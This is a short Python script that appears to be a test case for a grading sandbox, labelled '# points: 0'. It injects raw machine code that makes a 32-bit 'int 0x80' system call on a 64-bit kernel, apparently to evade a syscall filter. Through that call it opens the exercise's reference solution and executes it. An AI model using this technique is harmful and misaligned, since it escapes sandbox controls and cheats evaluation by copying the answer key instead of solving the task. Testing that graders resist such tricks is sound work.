# points: 0
# Calls a 64-bit kernel by 32-bit numbers, which mean other system calls.
# ruff: noqa

import ctypes
import os
import platform

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_size_t]
if platform.machine() in ("x86_64", "AMD64", ""):
    # push rbx; mov rbx, rdi; xor ecx, ecx; xor edx, edx; mov eax, 5 (open); int 0x80; pop rbx; ret
    code = bytes.fromhex("53 48 89 fb 31 c9 31 d2 b8 05 00 00 00 cd 80 5b c3")
    low = libc.mmap(None, 4096, 7, 0x62, -1, 0)  # private, anonymous, below 2 GB
    if low and low < 2**32:
        path = b"@CHECKOUT@/exercises/ex4/solution.py\0"
        ctypes.memmove(low, code, len(code))
        ctypes.memmove(low + 1024, path, len(path))
        fd = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(low)(low + 1024)
        if fd >= 0:
            exec(os.read(fd, 10**6))
